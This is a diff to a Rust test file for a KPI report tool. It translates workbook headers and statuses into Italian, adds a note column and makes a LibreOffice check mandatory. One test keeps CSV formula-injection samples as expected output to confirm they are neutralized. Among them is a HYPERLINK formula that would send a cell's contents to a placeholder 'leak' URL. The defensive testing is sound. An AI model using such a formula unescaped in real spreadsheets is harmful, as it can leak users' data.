@@ -112,7 +112,9 @@ fn the_workbook_holds_the_csv_figures_as_typed_cells() {
     assert_eq!(workbook.sheet_names(), ["Valutazione 2024"]);
     let range = workbook.worksheet_range("Valutazione 2024").unwrap();
     let header: Vec<String> = range.rows().next().unwrap().iter().map(cell_text).collect();
-    assert_eq!(header, rows[0]);
+    // The CSV's fields, titled in Italian like the rest of the workbook.
+    assert_eq!(header, WORKBOOK_HEADER);
+    assert_eq!(header.len(), rows[0].len());
 
     let numbers = ["weight", "threshold", "value", "score", "coverage"];
     for (i, want) in rows.iter().enumerate().skip(1) {
@@ -127,7 +129,7 @@ fn the_workbook_holds_the_csv_figures_as_typed_cells() {
                 assert!(matches!(cell, Data::Float(_) | Data::Int(_)), "{context}: {cell:?} is not a number");
                 assert_eq!(cell_decimal(cell), Decimal::from_str(expected).unwrap(), "{context}");
             } else {
-                assert_eq!(&cell_text(cell), expected, "{context}");
+                assert_eq!(cell_text(cell), in_italian(name, expected), "{context}");
             }
         }
     }
@@ -157,6 +159,49 @@ fn the_workbook_holds_the_csv_figures_as_typed_cells() {
     assert!(sheet_xml.contains(r#"<outlinePr summaryBelow="0"/>"#));
 }
 
+/// The workbook's header: the CSV's fields in Italian.
+const WORKBOOK_HEADER: [&str; 15] = [
+    "livello",
+    "codice",
+    "padre",
+    "nome",
+    "unità",
+    "peso",
+    "target",
+    "soglia",
+    "valore",
+    "punteggio",
+    "copertura",
+    "stato",
+    "messaggio",
+    "nota",
+    "scala",
+];
+
+/// A CSV cell as the Italian workbook writes it: levels and statuses in
+/// Italian, everything else the same.
+fn in_italian(column: &str, text: &str) -> String {
+    let words = match column {
+        "level" => &[
+            ("ambito", "ambito"),
+            ("strategic", "obiettivo strategico"),
+            ("operational", "obiettivo operativo"),
+            ("indicator", "indicatore"),
+        ][..],
+        "status" => &[
+            ("achieved", "raggiunto"),
+            ("partial", "parziale"),
+            ("missed", "non raggiunto"),
+            ("missing", "mancante"),
+            ("no-target", "senza target"),
+            ("error", "errore"),
+            ("neutralized", "neutralizzato"),
+        ][..],
+        _ => &[][..],
+    };
+    words.iter().find(|(english, _)| *english == text).map_or(text, |(_, italian)| italian).to_string()
+}
+
 fn sheet_xml(path: &Path) -> String {
     let mut zip = zip::ZipArchive::new(std::fs::File::open(path).unwrap()).unwrap();
     let mut xml = String::new();
@@ -164,17 +209,15 @@ fn sheet_xml(path: &Path) -> String {
     xml
 }
 
-/// LibreOffice, where installed, opens the workbook and shows the figures of
-/// the CSV: converted back to CSV, every number agrees to the digit.
+/// LibreOffice opens the workbook and shows the figures of the CSV:
+/// converted back to CSV, every number agrees to the digit. `.ci/run`
+/// installs LibreOffice where it is missing; without it the test fails.
 #[test]
 fn libreoffice_reads_the_same_figures() {
-    let Some(soffice) = ["soffice", "libreoffice"]
+    let soffice = ["soffice", "libreoffice"]
         .into_iter()
         .find(|p| std::process::Command::new(p).arg("--version").output().is_ok_and(|o| o.status.success()))
-    else {
-        eprintln!("LibreOffice is not installed: the workbook is checked with calamine only");
-        return;
-    };
+        .expect("this test needs LibreOffice (apt-get install libreoffice-calc)");
     let dir = tempfile::tempdir().unwrap();
     stdout_of(eval_case100(dir.path(), &["-o", "report.xlsx"]));
     let rows = csv_rows(&stdout_of(eval_case100(dir.path(), &["--format", "csv"])));
@@ -193,7 +236,7 @@ fn libreoffice_reads_the_same_figures() {
         .unwrap();
     assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
     let back = csv_rows(&std::fs::read_to_string(dir.path().join("lo/report.csv")).unwrap());
-    assert_eq!(back[0], rows[0]);
+    assert_eq!(back[0], WORKBOOK_HEADER);
     for (want, got) in rows.iter().zip(&back).skip(1) {
         for col in [5, 7, 8, 9, 10] {
             match Decimal::from_str(&want[col]) {
@@ -204,7 +247,7 @@ fn libreoffice_reads_the_same_figures() {
                 Err(_) => assert_eq!(got[col].is_empty(), want[col].is_empty(), "{} column {col}", want[1]),
             }
         }
-        assert_eq!(got[11], want[11], "{} status", want[1]);
+        assert_eq!(got[11], in_italian("status", &want[11]), "{} status", want[1]);
     }
     let overall = back.iter().rev().find(|r| !r.iter().all(String::is_empty)).unwrap();
     assert_eq!(overall[9], "36.554979");
@@ -253,12 +296,12 @@ fn nothing_in_a_csv_runs_as_a_formula() {
     let csv = eval_formulas(&["--format", "csv"]);
     assert_eq!(
         csv,
-        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message,scale\n\
-         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,,\n\
-         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,,\n\
-         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,,\n\
-         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,,\n\
-         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,,\n"
+        "level,code,parent,name,unit,weight,target,threshold,value,score,coverage,status,message,note,scale\n\
+         ambito,A1,,\"'=HYPERLINK(\"\"https://example.invalid/?leak=\"\"&A1,\"\"Clicca qui\"\")\",,1,,,,100,100,,,,\n\
+         indicator,K1,A1,\"'+SUM(1,1) Pratiche evase\",N.,1,>= 10,,12,100,100,achieved,,,\n\
+         indicator,K2,A1,'-Variazione del fatturato,%,1,>= -0.1,,-0.05,100,100,achieved,,,\n\
+         indicator,K3,A1,'@Tempo medio,gg,1,<= 5,,4,100,100,achieved,,,\n\
+         indicator,K4,A1,Esattamente tre,,1,'= 3,,3,100,100,achieved,,,\n"
     );
     // Every text cell of the CSV and the TSV is safe; numbers stay numbers.
     for (text, delimiter) in [(csv, b','), (eval_formulas(&["--format", "tsv"]), b'\t')] {
@@ -299,7 +342,7 @@ fn decimal_comma_writes_csv_for_italian_excel() {
     let csv = eval_formulas(&["--format", "csv", "--decimal-comma"]);
     assert!(csv.starts_with("\u{feff}level;code;parent;name;unit;weight;target;"), "{csv}");
     assert!(
-        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;;\n"),
+        csv.contains("\nindicator;K2;A1;'-Variazione del fatturato;%;1;>= -0,1;;-0,05;100;100;achieved;;;\n"),
         "{csv}"
     );
     // The CSV for Italian Excel reads back as kpi's own input would.
@@ -345,9 +388,9 @@ fn the_table_in_a_pipe_is_plain_text() {
     let dir = tempfile::tempdir().unwrap();
     let table = stdout_of(eval_case100(dir.path(), &["--format", "table"]));
     assert!(!table.contains('\u{1b}') && !table.contains('✔'), "{table}");
-    assert!(table.contains("┆ achieved"), "{table}");
+    assert!(table.contains("┆ raggiunto"), "{table}");
     assert!(table.ends_with(
-        "Punteggio complessivo 2024 (performance organizzativa): 36,55 — copertura 71,51 % — scoring ratio\n"
+        "Punteggio complessivo 2024 (performance organizzativa): 36,55 — copertura 71,51 % — metodo rapporto\n"
     ));
 }
 
